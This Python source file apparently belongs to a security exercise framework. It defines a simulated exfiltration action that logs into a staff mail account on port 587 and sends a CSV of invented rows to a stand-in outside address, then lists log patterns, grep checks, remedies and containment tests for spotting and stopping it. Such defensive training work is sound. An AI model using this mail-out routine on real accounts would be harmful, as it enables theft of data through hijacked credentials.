"""Somebody at a PC mails papers out of the house, from an account of the staff."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Annotated, ClassVar

from pydantic import Field

from cyder.contracts.acting import blocked_at_gateway, entity, first
from cyder.contracts.action import Action, Caps, Cleanup, Expected, Scene, Sighting, Trial
from cyder.contracts.probe import Check, Containment
from cyder.model.base import LocalText
from cyder.model.evidence import Receipt, Remedy, Trace, Truth
from cyder.model.messages import Correspondent
from cyder.roles.mail.accounts import address, attacked, correspondents, host_name, owner
from cyder.roles.mail.mail_probes import ReachesOutside, Submits
from cyder.roles.mail.mailing import hand_in, shut_out, taken
from cyder.roles.mail.outgoing import Attachment, FileName, Line, MailAddress, OutgoingMail
from cyder.roles.mail.outside import cleaned_outside, goes_out, refused_receiver, sink
from cyder.roles.mail.probes import SMTP, SUBMISSION

_LOG = "/var/log/mail.log"
_BODY = "資料を送ります。\n"
_ROW = "{number:05d},見本 {number:05d},この行は名簿の代わりの文であり、だれの情報でもありません\n"


class MailOut(Action):
    """One mail from an account to an address outside, logged in at port 587, with a table of invented lines attached.

    At most 60 KB, which a machine outside takes and keeps until the cleanup. No line of it is about anybody.
    """

    id: ClassVar[str] = "exfil.mail-out"
    title: ClassVar[LocalText] = LocalText(en="Papers mailed out of the house", ja="メールによる資料の持ち出し")
    techniques: ClassVar[tuple[str, ...]] = ("T1048.003",)
    sources: ClassVar[frozenset[str]] = frozenset({"client"})
    targets: ClassVar[frozenset[str]] = frozenset({"mail"})
    caps: ClassVar[Caps] = Caps(commands=24)
    touches: ClassVar[str] = "a mail server outside, which keeps one mail; here only the log"
    ways: ClassVar[tuple[str, ...]] = ("block-source", "refuse-receiver")
    trials: ClassVar[tuple[Trial, ...]] = (
        Trial("pc1", "mail", {"account": "$victim", "to": "archive@cdn-stat.example"}),
    )

    account: str
    to: MailAddress
    kilobytes: Annotated[int, Field(ge=1, le=60)] = 40
    file: FileName = "meibo.csv"
    subject: Line = "資料"

    def run(self, scene: Scene) -> Trace:
        """Log in at port 587 with the account's password and hand the mail in, once."""
        sink(scene, self.to)
        return hand_in(scene, self._mail(scene), (self.to,), owner(scene, self.account))

    def emits(self, scene: Scene) -> tuple[Expected, ...]:
        """Expect who logged in to send it, its size, what is attached, and that it was taken outside."""
        patterns = (taken(scene, owner(scene, self.account)), self._size(scene), self._attached(), self._sent())
        return tuple(Expected(node=scene.target, log="mail", pattern=pattern) for pattern in patterns)

    def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
        """Look for large mails, for what went to such a domain, and for what was attached."""
        domain = self.to.partition("@")[2]
        return (
            Sighting(scene.target, ("grep", "-E", "from=<.*size=[0-9]{5,}", _LOG), self._size(scene)),
            Sighting(scene.target, ("grep", f"to=<.*@{domain}", _LOG), self._sent()),
            Sighting(scene.target, ("grep", f"Content-Disposition.*@{domain}", _LOG), self._attached()),
        )

    def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
        """Name the receiver, the account, and when the mail was taken outside."""
        domain = self.to.partition("@")[2]
        place = sink(scene, self.to)
        every = tuple(address for card in place.interfaces for address in card.addresses)
        return Truth(
            indicators=(entity("receiver", email=self.to, domain=domain, ip=every),),
            accounts=attacked(scene, (self.account,)),
            timeline=first("exfil", scene.target, self._sent(), receipts),
            remedies=(
                Remedy(kind="block-network", target=domain),
                Remedy(kind="disable-account", target=self.account),
                Remedy(kind="isolate-host", target=scene.source),
            ),
        )

    def control(self, scene: Scene) -> Check:
        """Ask whether somebody else in the source's network can log in and send."""
        canary = scene.canary
        probe = Submits(target=scene.target, account=canary.account, password=canary.password)
        return Check(by="neighbour", probe=probe)

    def containment(self, scene: Scene) -> tuple[Containment, ...]:
        """Return: the source kept out; or nothing reaches that receiver, with log-in or, as from inside, without.

        Others must still be able to write to somebody else outside.
        """
        author = owner(scene, self.account)
        allow = (self.control(scene), *goes_out(scene))
        block, unblock = blocked_at_gateway(scene, scene.vantage.address)
        refuse, accept = refused_receiver(scene, self.to.partition("@")[2])
        plain = ReachesOutside(
            target=scene.target,
            mail=self._mail(scene).model_copy(update={"attachment": None}),
            to=self.to,
            mark=scene.marker,
            name=host_name(scene),
            port=SMTP,
            sink=sink(scene, self.to).name,
        )
        known = {"port": SUBMISSION, "account": author.account, "password": author.password}
        routes = tuple(Check(by="source", probe=probe) for probe in (plain, plain.model_copy(update=known)))
        return (
            Containment(id="block-source", deny=shut_out(scene, author), allow=allow, typed=block, undone=unblock),
            Containment(id="refuse-receiver", deny=routes, allow=allow, typed=refuse, undone=accept),
        )

    def cleanup(self, scene: Scene) -> Cleanup:
        """Take the mail from the sink, the queue and the mailboxes, and look."""
        return cleaned_outside(scene, self.to)

    def _mail(self, scene: Scene) -> OutgoingMail:
        (sender,) = correspondents(scene, (self.account,))
        rows = "".join(_ROW.format(number=number) for number in range(1, 1 + self.kilobytes * 1024 // 100))
        return OutgoingMail(
            sender=sender,
            to=(Correspondent(name="", address=self.to),),
            subject=self.subject,
            body=_BODY,
            attachment=Attachment(name=self.file, content=rows),
        )

    def _size(self, scene: Scene) -> str:
        least = 3 if self.kilobytes < 10 else 5
        return rf"qmgr\[\d+\]: \w+: from=<{re.escape(address(scene, self.account))}>, size=\d{{{least},}}, nrcpt=1 "

    def _attached(self) -> str:
        name, to = re.escape(self.file), re.escape(self.to)
        return rf'info: header Content-Disposition: attachment; filename="{name}" from .* to=<{to}> '

    def _sent(self) -> str:
        return rf"postfix/smtp\[\d+\]: \w+: to=<{re.escape(self.to)}>, relay=\S+, .*status=sent"
